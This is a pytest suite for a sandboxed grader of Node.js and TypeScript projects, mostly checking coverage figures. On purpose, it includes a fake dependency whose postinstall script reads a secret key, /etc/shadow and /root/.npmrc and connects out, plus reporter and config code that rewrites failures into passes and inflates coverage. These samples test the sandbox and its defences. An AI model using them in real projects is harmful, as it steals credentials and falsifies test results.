"""Node.js and TypeScript capstones assessed end to end in the real sandbox, with the figures compared with the
project's own coverage tool run by hand on the same code: Express + Jest + supertest, TypeScript + Vitest,
node --test, Mocha, pnpm and Yarn locks, a learner configuration that tries to shrink what is measured, ignore
comments, a dependency whose install script tries to reach out, and a test that needs Redis."""

import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import textwrap
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from assessor.engine import sandbox
from assessor.config import resolve_paths
from assessor.engine.intake import SourcePolicy
from assessor.engine.pipeline import PipelineSettings, assess
from assessor.engine.rubric import find_rubric
from tests.conftest import with_strength, write_tree
from tests.sandbox_fixtures import Listener, fresh_dir

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif((not sandbox.bubblewrap_available() or not shutil.which("npm")) and not os.environ.get("CI"),
                       reason="bubblewrap or npm is not available on this machine"),
]

RUBRIC_ID = "scalable-architectures-resilient-core"
NPM_CACHE = Path("/tmp/assessor-tests-npm-cache")


@pytest.fixture(scope="module")
def rubric():
    return find_rubric(RUBRIC_ID, resolve_paths().rubrics)


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    return PipelineSettings(work_root=fresh_dir("work"), cache_dir=tmp_path_factory.mktemp("cache"),
                            source_policy=SourcePolicy(allow_local=True))


def npm(*args: str, cwd: Path, env: dict | None = None) -> None:
    subprocess.run(["npm", *args, "--no-audit", "--no-fund", f"--cache={NPM_CACHE}", "--loglevel=error"], cwd=cwd,
                   check=True, capture_output=True, env={"PATH": os.environ["PATH"], "HOME": str(NPM_CACHE),
                                                          **(env or {})})


def node_repo(make_repo, files: dict, *, lock: str | None = "npm") -> Path:
    """A committed repository; its lock file is made by the package manager itself, as a learner's would be."""
    scratch = fresh_dir("node-src")
    write_tree(scratch, files)
    if lock == "npm":
        npm("install", "--package-lock-only", "--ignore-scripts", cwd=scratch)
        files = {**files, "package-lock.json": (scratch / "package-lock.json").read_text()}
    return make_repo(files)


def by_hand(repo: Path, *tool: str) -> dict[str, tuple[float, float]]:
    """(line %, branch %) per file from the project's own coverage tool's json-summary, run by hand."""
    work = fresh_dir("by-hand") / "checkout"
    shutil.copytree(repo, work, ignore=shutil.ignore_patterns(".git"))
    npm("install", "--ignore-scripts", cwd=work)
    subprocess.run([*tool], cwd=work, capture_output=True, env={"PATH": os.environ["PATH"], "CI": "true"})
    summary = json.loads((work / "coverage" / "coverage-summary.json").read_text())
    return {Path(name).relative_to(work).as_posix(): (entry["lines"]["pct"], entry["branches"]["pct"])
            for name, entry in summary.items() if name != "total"}


def per_file(report) -> dict[str, tuple[float, float]]:
    return {entry["path"]: (entry["line_percent"], entry["branch_percent"]) for entry in report.coverage["files"]}


def close(ours: dict, theirs: dict) -> None:
    """Every file the tool measured agrees with ours within 1.5 points."""
    for name, (line, branch) in theirs.items():
        assert abs(ours[name][0] - line) <= 1.5 and abs(ours[name][1] - branch) <= 1.5, (name, ours[name], line, branch)


CART_JS = """\
function total(prices, discount = 0) {
  if (discount) {
    return prices.reduce((a, b) => a + b, 0) * (1 - discount);
  }
  return prices.reduce((a, b) => a + b, 0);
}

function label(count) {
  if (count === 0) return "empty";
  if (count === 1) return "one item";
  return `${count} items`;
}

module.exports = { total, label };
"""
APP_JS = """\
const express = require("express");
const { total, label } = require("./cart");

const app = express();
app.use(express.json());
app.post("/total", (req, res) => {
  if (!Array.isArray(req.body.prices)) {
    return res.status(400).json({ error: "prices must be a list" });
  }
  res.json({ total: total(req.body.prices, req.body.discount), label: label(req.body.prices.length) });
});

module.exports = app;
"""
LEGACY_JS = "function old(a) {\n  if (a) {\n    return 1;\n  }\n  return 2;\n}\nmodule.exports = { old };\n"
JEST_TESTS = """\
const request = require("supertest");
const app = require("../src/app");

test("totals a cart", async () => {
  const response = await request(app).post("/total").send({ prices: [1, 2] });
  expect(response.status).toBe(200);
  expect(response.body).toEqual({ total: 3, label: "2 items" });
});

test("applies a discount", async () => {
  const response = await request(app).post("/total").send({ prices: [10], discount: 0.5 });
  expect(response.body.total).toBe(5);
});

test("refuses a bad body", async () => {
  const response = await request(app).post("/total").send({});
  expect(response.status).toBe(400);
});

test("a wrong expectation", () => {
  expect(1 + 1).toBe(3);
});
"""


def test_express_jest_supertest_with_a_config_that_hides_an_untested_file(make_repo, settings, rubric):
    files = {
        "package.json": json.dumps({
            "name": "shop", "version": "1.0.0", "scripts": {"test": "jest --runInBand"},
            "dependencies": {"express": "^4.19.2"}, "devDependencies": {"jest": "^29.7.0", "supertest": "^7.0.0"},
        }),
        "jest.config.js": "module.exports = { coveragePathIgnorePatterns: ['/node_modules/', 'src/legacy.js'], "
                          "collectCoverageFrom: ['src/app.js', 'src/cart.js'] };\n",
        "src/app.js": APP_JS, "src/cart.js": CART_JS, "src/legacy.js": LEGACY_JS,
        "tests/app.test.js": JEST_TESTS,
    }
    repo = node_repo(make_repo, files)
    report = assess(str(repo), with_strength(rubric, mutants=2), settings=settings)

    assert report.toolchain == {"name": "node", "root": ".", "detected_from": ["package.json", "package-lock.json"]}
    assert report.tests == {"passed": 3, "failed": 1, "errors": 0, "skipped": 0, "total": 4}, report.output_tail
    assert report.flags == ()  # the service's planted test and code neither count nor flag an honest run
    [failure] = report.failures
    assert failure["name"] == "a wrong expectation" and "Expected: 3" in failure["message"]
    ours = per_file(report)
    assert set(ours) == {"src/app.js", "src/cart.js", "src/legacy.js"}   # the config cannot hide legacy.js
    assert ours["src/legacy.js"] == (0.0, 0.0)
    close(ours, by_hand(repo, "npx", "jest", "--coverage", "--coverageReporters=json-summary"))
    assert report.complexity["analyser"] == "lizard" and report.complexity["maintainability"] is None
    # Stryker's operators on covered lines, each change run with Jest's tests related to the file
    strength = report.strength
    assert strength["tool"] == "Stryker's operators" and strength["sampled"] == strength["judged"] == 2, strength
    # Which changes are sampled follows the commit; each one was run and judged, on the files the tests load.
    assert {m["file"] for m in strength["mutants"]} <= {"src/app.js", "src/cart.js"}
    assert all(m["verdict"] in ("noticed", "survived", "timed_out") and m["detail"] for m in strength["mutants"])


VITEST_CART = """\
export function total(prices: number[], discount = 0): number {
  if (discount) {
    return prices.reduce((a, b) => a + b, 0) * (1 - discount);
  }
  return prices.reduce((a, b) => a + b, 0);
}

export function label(count: number): string {
  if (count === 0) return "empty";
  /* v8 ignore next 3 */
  if (count < 0) {
    throw new Error("negative");
  }
  return count === 1 ? "one item" : `${count} items`;
}
"""


def test_typescript_vitest_with_ignore_comments_and_an_excluding_config(make_repo, settings, rubric):
    files = {
        "package.json": json.dumps({"name": "cart", "version": "1.0.0", "type": "module",
                                    "scripts": {"test": "vitest run"},
                                    "devDependencies": {"vitest": "^2.1.0", "typescript": "^5.6.0",
                                                        "@vitest/coverage-v8": "^2.1.0"}}),
        "vitest.config.ts": 'import { defineConfig } from "vitest/config";\n'
                            'export default defineConfig({ test: { coverage: { exclude: ["src/untested.ts"] } } });\n',
        "tsconfig.json": '{"compilerOptions": {"strict": true, "module": "ESNext", "target": "ES2022"}}\n',
        "src/cart.ts": VITEST_CART,
        "src/untested.ts": "export const half = (x: number) => (x > 1 ? x / 2 : x);\n",
        "test/cart.test.ts": 'import { expect, test } from "vitest";\nimport { label, total } from "../src/cart";\n'
                             'test("total", () => expect(total([1, 2])).toBe(3));\n'
                             'test("discount", () => expect(total([10], 0.5)).toBe(5));\n'
                             'test("empty", () => expect(label(0)).toBe("empty"));\n'
                             'test.skip("later", () => {});\n',
    }
    repo = node_repo(make_repo, files)
    report = assess(str(repo), with_strength(rubric, mutants=2), settings=settings)

    assert report.tests == {"passed": 3, "failed": 0, "errors": 0, "skipped": 1, "total": 4}, report.output_tail
    assert report.flags == ()
    # `vitest related` runs the tests that import the changed file
    assert report.strength["judged"] == 2, report.strength
    ours = per_file(report)
    assert ours["src/untested.ts"] == (0.0, 0.0)
    assert any("1 coverage-ignore comment" in note for note in report.notes)
    theirs = by_hand(repo, "npx", "vitest", "run", "--coverage.enabled", "--coverage.reporter=json-summary")
    close(ours, {name: figures for name, figures in theirs.items() if name.startswith("src/")})


NEST_SERVICE = """\
export class CartService {
  total(prices: number[], discount = 0): number {
    const sum = prices.reduce((a, b) => a + b, 0);
    if (discount > 0) {
      return sum * (1 - discount);
    }
    return sum;
  }

  label(count: number): string {
    if (count === 0) {
      return "empty";
    }
    return count === 1 ? "one item" : `${count} items`;
  }
}
"""
NEST_SPEC = """\
import { CartService } from "./cart.service";

describe("CartService", () => {
  const service = new CartService();
  it("totals", () => expect(service.total([1, 2])).toBe(3));
  it("discounts", () => expect(service.total([10], 0.5)).toBe(5));
  it("labels an empty cart", () => expect(service.label(0)).toBe("empty"));
});
"""


def test_a_nest_style_project_whose_jest_root_is_src_is_measured_like_jest_by_hand(make_repo, settings, rubric):
    # Nest's generated Jest config: rootDir "src", so Jest matches coverage globs against paths from src/.
    files = {
        "package.json": json.dumps({
            "name": "shop-api", "version": "0.0.1", "scripts": {"test": "jest"},
            "devDependencies": {"jest": "^29.7.0", "ts-jest": "^29.2.0", "typescript": "^5.6.0",
                                "@types/jest": "^29.5.0"},
            "jest": {"moduleFileExtensions": ["js", "json", "ts"], "rootDir": "src", "testRegex": ".*\\.spec\\.ts$",
                     "transform": {"^.+\\.(t|j)s$": "ts-jest"}, "collectCoverageFrom": ["**/*.(t|j)s"],
                     "coverageDirectory": "../coverage", "testEnvironment": "node"},
        }),
        "tsconfig.json": '{"compilerOptions": {"module": "commonjs", "target": "ES2021", "strict": true}}\n',
        "src/cart/cart.service.ts": NEST_SERVICE,
        "src/cart/cart.service.spec.ts": NEST_SPEC,
        "src/untested.ts": "export const half = (x: number) => (x > 1 ? x / 2 : x);\n",
        "seed.ts": "export const rows = [1, 2, 3];\n",   # outside Jest's rootDir: no runner can measure it
    }
    repo = node_repo(make_repo, files)
    report = assess(str(repo), rubric, settings=settings)

    assert report.tests == {"passed": 3, "failed": 0, "errors": 0, "skipped": 0, "total": 3}, report.output_tail
    ours = per_file(report)
    assert set(ours) == {"src/cart/cart.service.ts", "src/untested.ts"}, report.notes
    assert ours["src/untested.ts"] == (0.0, 0.0) and ours["src/cart/cart.service.ts"][0] > 50
    assert any("seed.ts" in note and "left out of coverage" in note for note in report.notes), report.notes
    close(ours, by_hand(repo, "npx", "jest", "--coverage", "--coverageReporters=json-summary"))


def test_node_test_runner_and_c8_with_a_c8rc_that_tries_to_exclude(make_repo, settings, rubric):
    files = {
        "package.json": json.dumps({"name": "cart", "version": "1.0.0", "scripts": {"test": "node --test"},
                                    "devDependencies": {"c8": "^10.1.0"}}),
        ".c8rc.json": '{"exclude": ["src/legacy.js"], "all": false}\n',
        "src/cart.js": CART_JS.replace("function label", "/* c8 ignore next 3 */\nfunction debug(x) {\n  return x;\n}\n"
                                                         "function label"),
        "src/legacy.js": LEGACY_JS,
        "test/cart.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\n'
                             'const { total, label } = require("../src/cart");\n'
                             'test("total", () => assert.strictEqual(total([1, 2]), 3));\n'
                             'test("label", () => assert.strictEqual(label(1), "one item"));\n',
    }
    repo = node_repo(make_repo, files)
    report = assess(str(repo), rubric, settings=settings)

    assert report.tests == {"passed": 2, "failed": 0, "errors": 0, "skipped": 0, "total": 2}, report.output_tail
    ours = per_file(report)
    assert ours["src/legacy.js"] == (0.0, 0.0)
    assert any(note.startswith("1 coverage-ignore comment") for note in report.notes)
    theirs = by_hand(repo, "npx", "c8", "--reporter=json-summary", "--all", "--include=src/**", "node", "--test")
    close(ours, theirs)


@pytest.mark.parametrize("manager", ["pnpm", "yarn"])
def test_pnpm_and_yarn_lock_files_install_from_the_lock(make_repo, settings, rubric, manager):
    files = {
        "package.json": json.dumps({"name": "cart", "version": "1.0.0", "scripts": {"test": "mocha"},
                                    "devDependencies": {"mocha": "10.7.3"}}),
        "src/cart.js": CART_JS,
        "test/cart.spec.js": 'const assert = require("node:assert");\nconst { total } = require("../src/cart");\n'
                             'describe("cart", () => { it("totals", () => assert.strictEqual(total([2]), 2)); });\n',
    }
    scratch = fresh_dir("lock")
    write_tree(scratch, files)
    from assessor.engine.toolchains.node.packages import service_tools
    tools = service_tools(settings.work_root / "shared", cache_dir=settings.cache_dir)
    tool = {"pnpm": tools / "node_modules/pnpm/bin/pnpm.cjs", "yarn": tools / "node_modules/yarn/bin/yarn.js"}[manager]
    subprocess.run(["node", str(tool), "install", "--ignore-scripts"], cwd=scratch, check=True, capture_output=True,
                   env={"PATH": os.environ["PATH"], "HOME": str(NPM_CACHE)})
    lock = {"pnpm": "pnpm-lock.yaml", "yarn": "yarn.lock"}[manager]
    repo = make_repo({**files, lock: (scratch / lock).read_text()})
    report = assess(str(repo), rubric, settings=settings)

    assert report.environment["manager"] == manager and report.environment["lock"] == lock
    assert "mocha@10.7.3" in report.environment["installed"]
    assert report.tests["passed"] == 1 and report.coverage["line_percent"] > 0


def test_a_project_without_a_lock_file_is_resolved_once_and_says_so(make_repo, settings, rubric):
    repo = node_repo(make_repo, {
        "package.json": json.dumps({"name": "cart", "version": "1.0.0", "engines": {"node": ">=99"},
                                    "scripts": {"test": "node --test"}}),
        "src/cart.js": CART_JS,
        "test/cart.test.js": 'const test = require("node:test");\ntest("ok", () => {});\n',
    }, lock=None)
    report = assess(str(repo), rubric, settings=settings)
    assert any("no lock file" in note and "not pinned by you" in note for note in report.notes)
    assert any("package.json asks for Node >=99" in note for note in report.notes)
    assert report.tests["passed"] == 1


class Registry:
    """An npm registry on loopback serving one package, so its install script is entirely ours."""

    def __init__(self, name: str, version: str, files: dict[str, str]) -> None:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for path, text in files.items():
                data = text.encode()
                info = tarfile.TarInfo(f"package/{path}")
                info.size, info.mode = len(data), 0o644
                archive.addfile(info, io.BytesIO(data))
        tarball = buffer.getvalue()
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
        manifest = json.loads(files["package.json"])
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler(name, version, tarball, integrity, manifest))
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def _handler(self, name, version, tarball, integrity, manifest):
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                if self.path.strip("/") == name:
                    body = json.dumps({"name": name, "dist-tags": {"latest": version}, "versions": {version: {
                        **manifest, "dist": {"tarball": f"{registry.url}{name}/-/{name}-{version}.tgz",
                                 "integrity": integrity}}}}).encode()
                    self._send(body, "application/json")
                elif self.path.endswith(".tgz"):
                    self._send(tarball, "application/octet-stream")
                else:
                    self.send_error(404)

            def _send(self, body, kind):
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        return Handler

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_an_install_script_runs_in_the_sandbox_and_reaches_nothing(make_repo, settings, rubric, monkeypatch, tmp_path):
    instance = tmp_path / "instance"
    instance.mkdir()
    (instance / "secret_key").write_text("TOP-SECRET")
    monkeypatch.setenv("ASSESSOR_INSTANCE", str(instance))
    listener = Listener()
    host_flag = Path(f"/tmp/assessor-npm-script-escaped-{os.getpid()}")
    install_js = textwrap.dedent(f"""
        const fs = require("fs");
        const net = require("net");
        const stolen = [];
        for (const path of [{json.dumps(str(instance / "secret_key"))}, "/etc/shadow", "/root/.npmrc"]) {{
          try {{ stolen.push(fs.readFileSync(path, "utf8")); }} catch (error) {{}}
        }}
        try {{ fs.writeFileSync({json.dumps(str(host_flag))}, "escaped"); }} catch (error) {{}}
        const socket = net.connect({listener.port}, "127.0.0.1");
        socket.on("connect", () => {{ stolen.push("network"); finish(); }});
        socket.on("error", () => finish());
        function finish() {{ fs.writeFileSync(__dirname + "/result.json", JSON.stringify({{ ran: true, stolen }})); }}
    """)
    package = {"package.json": json.dumps({"name": "nosy-dep", "version": "1.0.0",
                                           "scripts": {"postinstall": "node install.js"}}),
               "install.js": install_js, "index.js": "module.exports = require('./result.json');\n"}
    registry = Registry("nosy-dep", "1.0.0", package)
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", registry.url)
    try:
        repo = node_repo(make_repo, {
            "package.json": json.dumps({"name": "app", "version": "1.0.0", "scripts": {
                "test": "node --test", "postinstall": "node -e \"require('fs').writeFileSync('/tmp/x','y')\""},
                "dependencies": {"nosy-dep": "1.0.0"}}),
            "src/app.js": "module.exports = require('nosy-dep');\n",
            "test/app.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\n'
                                'test("the script ran and stole nothing", () => {\n'
                                '  assert.deepStrictEqual(require("../src/app"), { ran: true, stolen: [] });\n});\n',
        }, lock=None)
        report = assess(str(repo), rubric, settings=settings)
    finally:
        registry.close()
        listener.close()
    assert report.tests == {"passed": 1, "failed": 0, "errors": 0, "skipped": 0, "total": 1}, report.output_tail
    assert any("install scripts of nosy-dep ran in the sandbox" in note for note in report.notes)
    assert listener.connections == 0 and not host_flag.exists()


def test_a_test_needing_redis_from_compose(make_repo, settings, rubric):
    repo = node_repo(make_repo, {
        "package.json": json.dumps({"name": "counter", "version": "1.0.0", "scripts": {"test": "node --test"},
                                    "dependencies": {"redis": "^4.7.0"}}),
        "docker-compose.yml": "services:\n  api:\n    build: .\n    environment:\n      REDIS_URL: redis://cache:6379\n"
                              "  cache:\n    image: redis:7\n",
        "src/counter.js": 'const { createClient } = require("redis");\n'
                          "async function hit(key) {\n  const client = createClient({ url: process.env.REDIS_URL });\n"
                          "  await client.connect();\n  const count = await client.incr(key);\n  await client.quit();\n"
                          "  return count;\n}\nmodule.exports = { hit };\n",
        "test/counter.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\n'
                                'const { hit } = require("../src/counter");\n'
                                'test("counts", async () => {\n  assert.strictEqual(await hit("k"), 1);\n'
                                '  assert.strictEqual(await hit("k"), 2);\n});\n',
    })
    report = assess(str(repo), rubric, settings=settings)
    assert report.tests["passed"] == 1, report.output_tail
    assert [entry["name"] for entry in report.services["started"]] == ["redis"]
    assert per_file(report)["src/counter.js"][0] == 100.0


def test_an_express_style_service_whose_other_tests_need_mongodb_runs_its_unit_tests(make_repo, settings, rubric):
    # The .env is a common template's: quoted values with inline comments, read as dotenv libraries read them.
    repo = node_repo(make_repo, {
        "package.json": json.dumps({"name": "orders", "version": "1.0.0", "scripts": {"test": "node --test"},
                                    "dependencies": {"envalid": "^8.0.0"}}),
        ".env": 'NODE_ENV="development" # development | test | production\nMONGO_URL="mongodb://mongo:27017/shop"'
                ' # local database\n',
        "docker-compose.yml": "services:\n  api:\n    build: .\n    env_file: .env\n  mongo:\n    image: mongo:7\n",
        # envalid ends the process when a value is not one it accepts: a quoted value read with its quotes would.
        "src/config.js": 'const { cleanEnv, str, url } = require("envalid");\n'
                         "const env = cleanEnv(process.env, {\n"
                         '  NODE_ENV: str({ choices: ["development", "test", "production"] }),\n'
                         "  MONGO_URL: url(),\n});\nmodule.exports = { mongoUrl: new URL(env.MONGO_URL) };\n",
        "src/pricing.js": "function total(lines) {\n  return lines.reduce((sum, line) => sum + line.price * line.qty, 0);\n"
                          "}\nmodule.exports = { total };\n",
        "src/store.js": 'const net = require("node:net");\nconst { mongoUrl } = require("./config");\n'
                        "function ping() {\n  return new Promise((resolve, reject) => {\n"
                        "    const socket = net.connect(Number(mongoUrl.port), mongoUrl.hostname, () => {\n"
                        "      socket.end();\n      resolve(true);\n    });\n    socket.on(\"error\", reject);\n  });\n}\n"
                        "module.exports = { ping };\n",
        "test/pricing.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\n'
                                'require("../src/config");\nconst { total } = require("../src/pricing");\n'
                                'test("sums lines", () => assert.strictEqual(total([{ price: 2, qty: 3 }]), 6));\n'
                                'test("empty", () => assert.strictEqual(total([]), 0));\n',
        "test/store.test.js": 'const test = require("node:test");\nconst assert = require("node:assert");\n'
                              'const { ping } = require("../src/store");\n'
                              'test("the store answers", async () => assert.ok(await ping()));\n',
    })
    report = assess(str(repo), rubric, settings=settings)

    assert report.tests == {"passed": 2, "failed": 0, "errors": 0, "skipped": 0, "total": 2, "unavailable": 1,
                            "needs": {"MongoDB": 1}}, report.output_tail
    assert next(score for score in report.criteria if score.kind == "tests").status == "scored"
    assert per_file(report)["src/pricing.js"][0] == 100.0


# ---------------------------------------------------------------- results rewritten inside the test process

FLIPPING_REPORTER = """\
class Flip {
  onTestResult(test, result) {
    for (const each of result.testResults) {
      if (each.status === "failed") {
        each.status = "passed";
        each.failureMessages = [];
      }
    }
    result.numFailingTests = 0;
    result.failureMessage = null;
  }

  onRunComplete(contexts, results) {
    results.numFailedTests = 0;
    results.success = true;
  }
}

module.exports = Flip;
"""
REWRITE_AT_EXIT = """\
import { readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { defineConfig } from "vitest/config";

process.on("exit", () => {
  const option = process.argv.find((argument) => argument.startsWith("--outputFile.junit="));
  if (!option) return;
  const results = option.slice(option.indexOf("=") + 1);
  writeFileSync(results, readFileSync(results, "utf8").replace(/<failure[\\s\\S]*?<\\/failure>/g, ""));
  const counters = join(dirname(results), "coverage", "coverage-final.json");
  const data = JSON.parse(readFileSync(counters, "utf8"));
  for (const entry of Object.values<any>(data)) for (const key of Object.keys(entry.s)) entry.s[key] = 1;
  writeFileSync(counters, JSON.stringify(data));
});

export default defineConfig({});
"""


def test_a_jest_reporter_that_turns_failures_into_passes_is_caught_by_the_canary(make_repo, settings, rubric):
    files = {
        "package.json": json.dumps({"name": "shop", "version": "1.0.0", "scripts": {"test": "jest"},
                                    "dependencies": {"express": "^4.19.2"},
                                    "devDependencies": {"jest": "^29.7.0", "supertest": "^7.0.0"}}),
        "jest.config.js": "module.exports = { reporters: ['default', '<rootDir>/flip-reporter.js'] };\n",
        "flip-reporter.js": FLIPPING_REPORTER,
        "src/app.js": APP_JS, "src/cart.js": CART_JS, "src/legacy.js": LEGACY_JS, "tests/app.test.js": JEST_TESTS,
    }
    report = assess(str(node_repo(make_repo, files)), rubric, settings=settings)
    codes = {flag["code"] for flag in report.flags}
    assert codes == {"canary_passed"}, report.flags
    assert report.tests is None and report.coverage is None


def test_vitest_result_files_rewritten_at_exit_are_caught_by_both_canaries(make_repo, settings, rubric):
    files = {
        "package.json": json.dumps({"name": "cart", "version": "1.0.0", "type": "module",
                                    "scripts": {"test": "vitest run"},
                                    "devDependencies": {"vitest": "^2.1.0", "typescript": "^5.6.0",
                                                        "@vitest/coverage-v8": "^2.1.0"}}),
        "vitest.config.ts": REWRITE_AT_EXIT,
        "tsconfig.json": '{"compilerOptions": {"strict": true, "module": "ESNext", "target": "ES2022"}}\n',
        "src/cart.ts": VITEST_CART,
        "test/cart.test.ts": 'import { expect, test } from "vitest";\nimport { total } from "../src/cart";\n'
                             'test("total", () => expect(total([1, 2])).toBe(3));\n'
                             'test("wrong", () => expect(total([1, 2])).toBe(4));\n',
    }
    report = assess(str(node_repo(make_repo, files)), rubric, settings=settings)
    codes = {flag["code"] for flag in report.flags}
    assert {"canary_passed", "canary_code_run"} <= codes, report.flags
    assert report.tests is None and report.coverage is None
